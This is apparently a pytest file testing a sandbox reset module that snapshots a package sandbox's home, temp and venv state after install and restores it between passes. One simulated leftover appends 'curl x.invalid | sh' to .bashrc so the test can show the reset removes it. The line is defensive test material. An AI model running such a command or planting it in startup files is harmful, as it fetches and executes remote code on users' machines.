"""sandbox/agent/reset.py on a real tree: what the extra passes start from.

The agent runs it as root on the snapshot and as the candidate's uid on the restore;
here both are this process's uid (the suite runs as root), through the same setpriv
command line, on a temporary HOME with a venv inside."""

from __future__ import annotations

import os
import shutil
import tarfile
import tempfile
from pathlib import Path

import pytest

from sandbox.agent import reset


def _tree(root: Path) -> dict[str, tuple[int, bytes | None]]:
    """path -> (mode, contents) of everything under *root*."""
    out: dict[str, tuple[int, bytes | None]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = Path(dirpath, name)
            st = p.lstat()
            data = p.read_bytes() if p.is_file() and not p.is_symlink() else None
            out[str(p.relative_to(root))] = (st.st_mode, data)
    return out


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, object]:
    home = tmp_path / "home" / "dev"
    venv = home / "project" / ".venv"
    site = venv / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (site / "site.pth").write_text("import x\n")
    (home / ".bashrc").write_text("alias ll='ls -l'\n")
    (home / ".aws").mkdir(mode=0o700)
    (home / ".aws" / "credentials").write_text("[default]\n")
    (home / "project" / "README.md").write_text("# service\n")
    (home / "link").symlink_to("/etc/hostname")
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    (tmp / "pip-build-left").write_text("x")
    monkeypatch.setattr(reset, "SNAPSHOT", tmp_path / "snap.tar")
    monkeypatch.setattr(reset, "NOTE", tmp_path / "snap.note")
    monkeypatch.setattr(reset, "LISTING", tmp_path / "snap.venv")
    monkeypatch.setattr(reset, "TEMP_ROOTS", (str(tmp),))
    plan = {
        "home": str(home),
        "venv": str(venv),
        "uid": os.getuid(),
        "gid": os.getgid(),
        "passes": {"secrets": {"fresh": True}},
    }
    return {"plan": plan, "home": home, "venv": venv, "tmp": tmp}


def test_restore_brings_back_install_state_and_drops_new_venv_files(world: dict[str, object]) -> None:
    plan, home, venv, tmp = world["plan"], world["home"], world["venv"], world["tmp"]
    assert isinstance(plan, dict) and isinstance(home, Path) and isinstance(venv, Path)
    assert isinstance(tmp, Path)
    reset.save(plan)
    with tarfile.open(reset.SNAPSHOT) as tar:
        names = tar.getnames()
    assert not [n for n in names if ".venv" in n], names
    before_home = {k: v for k, v in _tree(home).items() if not k.startswith("project/.venv")}
    before_tmp = _tree(tmp)
    # what a first session leaves: a mark, an append, a locked-down folder, a temp lock,
    # a deleted file, a file and a marked folder dropped into the venv, a bytecode cache
    mark = home / ".config" / "tool" / "installed"
    mark.parent.mkdir(parents=True)
    mark.write_text("1")
    with (home / ".bashrc").open("a") as fh:
        fh.write("curl x.invalid | sh\n")
    (home / "locked").mkdir()
    (home / "locked" / "f").write_text("x")
    (home / "locked").chmod(0o500)
    (tmp / ".lock").write_text("x")
    (home / "project" / "README.md").unlink()
    site = venv / "lib" / "python3.11" / "site-packages"
    (site / "dropped.pth").write_text("import y\n")
    (site / ".mark").mkdir()
    (site / ".mark" / "installed").write_text("1")
    (site / "__pycache__").mkdir()
    (site / "__pycache__" / "x.pyc").write_bytes(b"\0")
    # an adaptive round's dependency, pip-installed after install: kept (its RECORD)
    (site / "dep").mkdir()
    (site / "dep" / "__init__.py").write_text("")
    (site / "dep-1.0.dist-info").mkdir()
    (site / "dep-1.0.dist-info" / "RECORD").write_text("dep/__init__.py,,\ndep-1.0.dist-info/RECORD,,\n")

    pid, problem = reset.restore(plan)
    assert problem == "" and isinstance(pid, int) and pid > 0
    after_home = {k: v for k, v in _tree(home).items() if not k.startswith("project/.venv")}
    assert after_home == before_home
    assert _tree(tmp) == before_tmp
    # the venv: what install left stays (its bytecode caches too), what came after goes
    assert not (site / "dropped.pth").exists() and not (site / ".mark").exists()
    assert (site / "site.pth").exists() and (site / "__pycache__" / "x.pyc").exists()
    assert (site / "dep" / "__init__.py").exists() and (site / "dep-1.0.dist-info" / "RECORD").exists()


def test_restore_without_a_snapshot_says_so(world: dict[str, object]) -> None:
    plan = world["plan"]
    assert isinstance(plan, dict)
    assert reset.restore(plan) == (None, "no snapshot of the state after install")


def test_files_past_the_bounds_are_left_out_not_the_reset(
    world: dict[str, object], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A big (or sparse) file from install must not make the reset fail open: it is
    left out (absent in the passes, said), the mark made after is still removed."""
    plan, home = world["plan"], world["home"]
    assert isinstance(plan, dict) and isinstance(home, Path)
    monkeypatch.setattr(reset, "PER_FILE", 1000)
    with (home / "sparse").open("wb") as fh:
        fh.truncate(1 << 30)
    reset.save(plan)
    (home / ".mark").write_text("seen")
    pid, problem = reset.restore(plan)
    assert pid is not None and "1 file(s) of install's left out" in problem, problem
    assert not (home / ".mark").exists() and not (home / "sparse").exists()
    assert (home / ".bashrc").read_text() == "alias ll='ls -l'\n"


def test_no_fresh_pass_no_snapshot(world: dict[str, object]) -> None:
    """A profile whose passes never run fresh pays no tar after install."""
    plan = world["plan"]
    assert isinstance(plan, dict)
    reset.save({**plan, "passes": {"time": {"trigger": "time"}}})
    assert not reset.SNAPSHOT.exists()


def test_restore_as_an_unprivileged_uid_leaves_what_is_not_its_own(
    tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The agent's real split: root snapshots, uid 65534 (no capabilities, as setpriv
    leaves it) restores. It must chmod its own 0500 folder to empty it, and never
    touch root's files beside its own."""
    if os.geteuid() != 0:
        pytest.fail("needs root (the suite runs as root, as the agent does)")
    base = Path(tempfile.mkdtemp(prefix="pkgsandbox-reset-test-", dir="/tmp"))
    try:
        base.chmod(0o755)  # the unprivileged restore must reach it
        home, tmp = base / "home", base / "tmp"
        venv = home / "project" / ".venv"
        venv.mkdir(parents=True)
        (home / ".bashrc").write_text("alias ll='ls -l'\n")
        tmp.mkdir(mode=0o1777)
        tmp.chmod(0o1777)
        for p in [home, *home.rglob("*")]:
            os.lchown(p, 65534, 65534)
        (tmp / "root-owned").write_text("agent's")  # not the candidate's: not in the snapshot
        monkeypatch.setattr(reset, "SNAPSHOT", tmp_path_factory.mktemp("snap") / "snap.tar")
        monkeypatch.setattr(reset, "NOTE", reset.SNAPSHOT.with_suffix(".note"))
        monkeypatch.setattr(reset, "LISTING", reset.SNAPSHOT.with_suffix(".venv"))
        monkeypatch.setattr(reset, "TEMP_ROOTS", (str(tmp),))
        plan = {
            "home": str(home),
            "venv": str(venv),
            "uid": 65534,
            "gid": 65534,
            "passes": {"ci": {"fresh": True}},
        }
        reset.save(plan)
        with tarfile.open(reset.SNAPSHOT) as tar:
            assert "root-owned" not in " ".join(tar.getnames())
        # the first session, as uid 65534 would leave it
        locked = home / ".config" / "tool"
        locked.mkdir(parents=True)
        (locked / "installed").write_text("1")
        (tmp / ".lock").write_text("x")
        for p in (home / ".config", locked, locked / "installed", tmp / ".lock"):
            os.lchown(p, 65534, 65534)
        locked.chmod(0o500)
        pid, problem = reset.restore(plan)
        assert pid is not None and problem == "", problem
        assert not (home / ".config").exists() and not (tmp / ".lock").exists()
        assert (tmp / "root-owned").read_text() == "agent's"
        assert (home / ".bashrc").stat().st_uid == 65534 and venv.is_dir()
    finally:
        for p in base.rglob("*"):  # a 0500 folder left by a failed restore
            if p.is_dir() and not p.is_symlink():
                p.chmod(0o700)
        shutil.rmtree(base)
